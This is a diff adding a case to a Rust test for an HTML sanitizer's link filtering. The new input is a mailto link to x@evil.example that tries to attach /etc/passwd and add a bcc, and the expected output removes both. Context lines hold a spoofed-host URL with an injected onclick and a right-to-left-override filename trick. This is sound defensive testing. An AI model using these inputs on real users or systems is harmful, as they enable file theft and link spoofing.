@@ -151,6 +151,10 @@ fn links_keep_schemes_that_lead_somewhere_and_cannot_reach_back() {
             &format!("<a href=\"https://bank.example%2F@127.0.0.1/?&quot;onclick=x\" {OUT}>x</a>"),
         ),
         ("<a href='https://a.example/\u{202e}gpj.exe'>x</a>", "<a>x</a>"),
+        (
+            "<a href='mailto:x@evil.example?attach=/etc/passwd&amp;bcc=y@z.example&amp;body=a%0Ab'>x</a>",
+            &format!("<a href=\"mailto:x@evil.example?body=a%0D%0Ab\" {OUT}>x</a>"),
+        ),
         // Its letters would read the other way round.
         ("<bdo dir=rtl>elpmaxe.knab//:sptth</bdo>", "elpmaxe.knab//:sptth"),
         ("<a href='https://a.example/\u{202e}gpj.exe'>x</a>", "<a>x</a>"),
